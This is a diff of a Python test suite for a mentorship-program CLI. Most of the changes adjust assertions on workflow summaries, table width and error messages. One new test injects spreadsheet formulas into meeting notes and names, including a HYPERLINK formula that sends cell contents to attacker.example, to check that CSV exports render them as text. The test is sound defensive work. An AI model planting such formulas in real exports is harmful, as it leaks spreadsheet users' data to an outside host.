@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 import sys
 import uuid
@@ -17,10 +19,10 @@ import yaml
 from typer.testing import CliRunner, Result
 
 from cli import connection
-from cli.app import _register, app
+from cli.app import app, register_all
 from tests.lifecycle import Lifecycle
 
-_register()
+register_all()
 
 OPERATOR_ENV = {
     "MENTORFLOW_OPERATOR_ID": "olga",
@@ -148,8 +150,13 @@ async def onboard(cli: Cli, rid: str, lead: timedelta, cadence: str = "biweekly"
 # --------------------------------------------------------------------------- start
 
 
-async def test_start_from_flags_and_again_starts_nothing_new(cli: Cli) -> None:
+async def test_start_from_flags_and_again_starts_nothing_new(
+    cli: Cli, dev_lifecycle: Lifecycle
+) -> None:
     rid = await cli.start("alice", "bob", "--topic", "public speaking")
+    described = await dev_lifecycle.env.client.get_workflow_handle(rid).describe()
+    assert await described.static_summary() == f"Alice mentors Bob ({cli.program})"
+    assert "- topic: public speaking" in (await described.static_details() or "")
     assert rid == f"{cli.program}.bob.alice"
 
     again = await cli.ok(
@@ -336,7 +343,12 @@ async def test_list_filters_by_the_search_attributes(cli: Cli, dev_lifecycle: Li
     rows = await cli.json("list", "--program", cli.program, "--phase", "active")
     assert rows[0]["next_meeting"] is not None and rows[0]["health"] == "ok"
     assert await listed(cli, "--phase", "onboarding") == sorted([reverse, situational])
-    assert "Relationships (3)" in (await cli.ok("list", "--program", cli.program)).stdout
+    shown = (await cli.ok("list", "--program", cli.program)).stdout
+    assert "Relationships (3)" in shown
+    lines = shown.splitlines()
+    assert max(len(line) for line in lines) <= 80, "fits an 80-column terminal"
+    for rid in everyone:
+        assert any(f"│ {rid} " in line for line in lines), f"{rid} is whole on one line"
 
 
 async def test_missed_meetings_put_a_pair_on_the_at_risk_list(cli: Cli) -> None:
@@ -537,9 +549,9 @@ async def test_refused_actions_print_one_line_naming_the_field(cli: Cli) -> None
         "--proposed-format",
         "virtual",
     )
-    assert line.startswith("error: objectives.0: is blank")
+    assert line.startswith("error: --objective: is blank")
     line = await cli.refused("goals", rid, "--objective", "x", "--proposed-cadence", "sometimes")
-    assert line.startswith("error: proposed_cadence: unknown cadence 'sometimes'")
+    assert line.startswith("error: --proposed-cadence: unknown cadence 'sometimes'")
     line = await cli.refused(
         "confirm",
         rid,
@@ -552,7 +564,7 @@ async def test_refused_actions_print_one_line_naming_the_field(cli: Cli) -> None
         "--first-meeting",
         "2030-01-01T10:00",
     )
-    assert line.startswith("error: terms.first_meeting_at: has no time zone")
+    assert line.startswith("error: --first-meeting: has no time zone")
     line = await cli.refused(
         "feedback",
         rid,
@@ -565,7 +577,7 @@ async def test_refused_actions_print_one_line_naming_the_field(cli: Cli) -> None
         "--area",
         "vague",
     )
-    assert line.startswith("error: development_areas: 'vague' has no '=>'")
+    assert line.startswith("error: --area: 'vague' has no '=>'")
     line = await cli.refused(
         "commitment",
         rid,
@@ -593,7 +605,11 @@ async def test_meetings_go_on_the_window_and_status_reads_in_program_time(cli: C
         *("--communication", "email", "--window", "tue 14-17 Europe/Berlin"),
     )
     await cli.ok("confirm", rid, "--as", "mentee")
-    await cli.ok("confirm", rid, "--as", "mentor")
+    signed = (await cli.ok("confirm", rid, "--as", "mentor")).stdout.strip()
+    assert signed.startswith(
+        f"agreement confirmed: {rid} is active; recorded: agreement confirmed, "
+        "agreement signed, meeting scheduled"
+    ), "said in words, not class names"
     view = await cli.json("status", rid)
     window = view["state"]["commitment"]["window"]
     assert window == {
@@ -611,6 +627,32 @@ async def test_meetings_go_on_the_window_and_status_reads_in_program_time(cli: C
     program_day = started + (meeting - started) * 1000
     assert f"#1 at {program_day:%Y-%m-%d %H:%M} UTC" in shown, "program time, like the end date"
     assert f"meeting 1 on {program_day:%Y-%m-%d %H:%M} UTC" in shown
+
+
+async def test_a_formula_typed_into_a_meeting_note_is_text_in_every_csv_export(cli: Cli) -> None:
+    rid = await cli.start("alice", "bob", "--mentor-name", "=1+2 Alice")
+    await onboard(cli, rid, timedelta(days=3))
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
+    await cli.ok(
+        "log-meeting",
+        rid,
+        *("--as", "mentor", "--notes", formula, "--duration", "45"),
+        *("--win", "+1 promotion", "--action-item", "@SUM(1+1)"),
+    )
+    exported = (await cli.ok("audit", "export", "--program", cli.program, "--format", "csv")).stdout
+    cells = [c for row in csv.reader(io.StringIO(exported)) for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    logged = next(json.loads(c) for c in cells if '"MeetingLogged"' in c)
+    assert logged["notes"] == formula, "inside the JSON cell the note is exact"
+
+    as_of = (await cli.ok("history", rid, "--as-of", iso(datetime.now(UTC)), "--format", "csv"))
+    fields = dict(csv.reader(io.StringIO(as_of.stdout)))
+    assert fields["mentor"] == "'=1+2 Alice", "a name typed as a formula stays text"
+    assert not [c for c in fields.values() if c.startswith(("=", "+", "-", "@"))]
+
+    jsonl = (await cli.ok("audit", "export", "--program", cli.program)).stdout
+    notes = [json.loads(line)["event"].get("notes") for line in jsonl.splitlines()]
+    assert formula in notes, "JSON exports stay exact"
 
 
 async def test_every_command_explains_itself() -> None:
